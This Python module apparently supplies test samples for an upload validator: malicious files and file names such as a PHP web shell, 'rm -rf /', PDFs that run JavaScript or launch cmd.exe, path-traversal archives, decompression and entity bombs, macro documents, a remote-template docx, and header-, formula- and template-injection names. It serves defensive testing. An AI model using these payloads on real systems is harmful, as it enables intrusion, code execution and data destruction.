"""Files that mean harm: what attackers put into upload forms, by what is wrong with them."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib

from PIL import Image, PngImagePlugin

CANARY = "innosetCanary"
SCRIPT = f"<script>{CANARY}()</script>".encode()
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CANARY}()"><script>{CANARY}()</script></svg>'.encode()
)
PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"
PROGRAM = b"MZ\x90\x00" + b"\x00" * 200 + b"PE\x00\x00"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 600
DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body/></w:document>'


def archive(*, packed: bool = True, **parts: bytes) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as made:
        for name, data in parts.items():
            made.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return into.getvalue()


def types(kind: str) -> bytes:
    return f'<Types><Override PartName="/x" ContentType="application/vnd.{kind}"/></Types>'.encode()


def docx(**more: bytes) -> bytes:
    known = {"[Content_Types]_dot_xml": types("wordprocessingml"), "word__document_dot_xml": DOCUMENT}
    return archive(**{**known, **more})


def jpeg(**options: object) -> bytes:
    into = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(into, "JPEG", **options)  # type: ignore[arg-type]  # as the library takes them
    return into.getvalue()


def png() -> bytes:
    notes, into = PngImagePlugin.PngInfo(), io.BytesIO()
    notes.add_text("Comment", SCRIPT.decode())
    Image.new("RGB", (16, 16), "red").save(into, "PNG", pnginfo=notes)
    return into.getvalue()


def bomb() -> bytes:
    """Return a drawing of 3.6 milliard points in a few hundred bytes."""
    data = bytearray(png())
    data[16:24] = struct.pack("!II", 60_000, 60_000)
    data[29:33] = struct.pack("!I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def tar() -> bytes:
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as made:
        made.addfile(tarfile.TarInfo("../../etc/cron.d/job"))
    return into.getvalue()


def locked() -> bytes:
    """Return an archive whose members say that they are encrypted."""
    data = bytearray(archive(packed=False, word__document_dot_xml=DOCUMENT))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + place] |= 1
    return bytes(data)


def acting_pdf(action: bytes) -> bytes:
    return PDF.replace(b"/Catalog", b"/Catalog/OpenAction<<" + action + b">>")


CONTENTS: dict[str, tuple[str, bytes]] = {
    "a page": ("страница.html", HTML),
    "a page called pdf": ("письмо.pdf", HTML),
    "a page called jpg": ("фото.jpg", HTML),
    "a page called docx, with a mark": ("паспорт.docx", b"\xef\xbb\xbf" + HTML),
    "a page behind spaces": ("письмо.pdf", b" \r\n\t" * 40 + HTML),
    "a page with a pdf inside": ("письмо.pdf", HTML + PDF),
    "a pdf with a page inside": ("письмо.pdf", PDF + HTML),
    "a pdf that is a page by its name": ("письмо.html", PDF + HTML),
    "a pdf that runs a script": ("письмо.pdf", acting_pdf(f"/S/JavaScript/JS({CANARY}())".encode())),
    "a pdf that starts a program": ("письмо.pdf", acting_pdf(b"/S/Launch/F(cmd.exe)")),
    "a pdf and an archive": ("письмо.pdf", PDF + archive(page_dot_html=HTML)),
    "a drawing that acts": ("схема.svg", SVG),
    "a drawing called png": ("схема.png", SVG),
    "a packed drawing": ("схема.svgz", gzip.compress(SVG)),
    "a transformation": ("x.xml", b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>' + SVG),
    "a saved page": ("x.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML),
    "a flash film": ("x.swf", b"FWS\x0a" + b"\x00" * 64),
    "a program": ("setup.exe", PROGRAM),
    "a program called pdf": ("письмо.pdf", PROGRAM),
    "a program of another system": ("письмо.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 64),
    "a shell script": ("письмо.pdf", b"#!/bin/sh\nrm -rf /\n"),
    "a server page": ("x.php.pdf", b"<?php system($_GET[0]); ?>"),
    "a script": ("x.js", f"{CANARY}()".encode()),
    "an application page": ("x.hta", b"<hta:application>" + SCRIPT),
    "a shortcut": ("письмо.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 64),
    "an archive": ("всё.zip", archive(page_dot_html=HTML)),
    "an archive called docx": ("паспорт.docx", archive(page_dot_html=HTML)),
    "a java program": (
        "x.docx",
        archive(**{"META-INF__MANIFEST_dot_MF": b"Main-Class: X", "X_dot_class": b"1"}),
    ),
    "a document with macros": ("паспорт.docm", docx(word__vbaProject_dot_bin=OLE)),
    "a document with macros called docx": ("паспорт.docx", docx(word__VBAPROJECT_dot_BIN=OLE)),
    "a document that says it has macros": (
        "паспорт.docx",
        docx(**{"[Content_Types]_dot_xml": types("ms-word.document.macroEnabled.main+xml")}),
    ),
    "a table with macros": ("т.xlsx", archive(xl__workbook_dot_xml=b"<x/>", xl__vbaProject_dot_bin=OLE)),
    "a text with macros": (
        "паспорт.odt",
        archive(mimetype=b"application/vnd.oasis.opendocument.text", Basic__Standard__M_dot_xml=b"1"),
    ),
    "a document with a foreign template": (
        "паспорт.docx",
        docx(
            word___rels__settings_dot_xml_dot_rels=b'<r Type="attachedTemplate" Target="http://x.example/t.dotm"/>'
        ),
    ),
    "a document with a page in it": ("паспорт.docx", docx(word__chunk_dot_html=HTML)),
    "a document and a page": ("паспорт.docx", docx() + HTML),
    "a document of a milliard laughs": (
        "паспорт.docx",
        docx(word__document_dot_xml=b'<!DOCTYPE x [<!ENTITY a "a"><!ENTITY b "&a;&a;">]><x>&b;</x>'),
    ),
    "a document that swells": ("паспорт.docx", docx(word__document_dot_xml=b" " * 80_000_000)),
    "a locked archive": ("паспорт.docx", locked()),
    "an old document": ("паспорт.doc", OLE),
    "a formatted text": ("паспорт.rtf", rb"{\rtf1{\object\objocx}}"),
    "a photograph with a script": ("фото.jpg", jpeg(comment=SCRIPT)),
    "a photograph and an archive": ("фото.jpg", jpeg() + archive(page_dot_html=HTML)),
    "a photograph and a page": ("фото.html", jpeg() + HTML),
    "a drawing with a script in its notes": ("схема.png", png()),
    "a drawing that swells": ("схема.png", bomb()),
    "a broken photograph": ("фото.jpg", jpeg()[:200]),
    "a picture that is a script": ("x.gif", b"GIF89a/*" + b"\x00" * 40 + b"*/=1;" + CANARY.encode() + b"()"),
    "a tape": ("x.tar", tar()),
    "nothing": ("письмо.pdf", b""),
    "zeros": ("письмо.pdf", b"\x00" * 5000),
}
NAMES: dict[str, str] = {
    "written backwards": "счёт\u202efdp.exe",
    "with a zero inside": "письмо.html\x00.pdf",
    "that climbs": "../../../etc/cron.d/job.pdf",
    "of a foreign folder": "C:\\Windows\\win.ini",
    "with two endings": "письмо.pdf.exe",
    "with a header in it": "письмо.pdf\r\nSet-Cookie: a=b",
    "with a tag in it": f"<img src=x onerror={CANARY}()>.pdf",
    "with a quote in it": '"; filename="x.html',
    "longer than most": "п" * 246 + ".pdf",
    "of a server's settings": ".htaccess",
    "of nothing": "\u200b\u200d",
    "of a formula": "=cmd|' /C calc'!A0.pdf",
    "of a template": "{{ 7*7 }}{% debug %}.pdf",
}
SAMPLES: dict[str, tuple[str, bytes]] = CONTENTS | {
    f"a name {what}": (name, PDF) for what, name in NAMES.items()
}
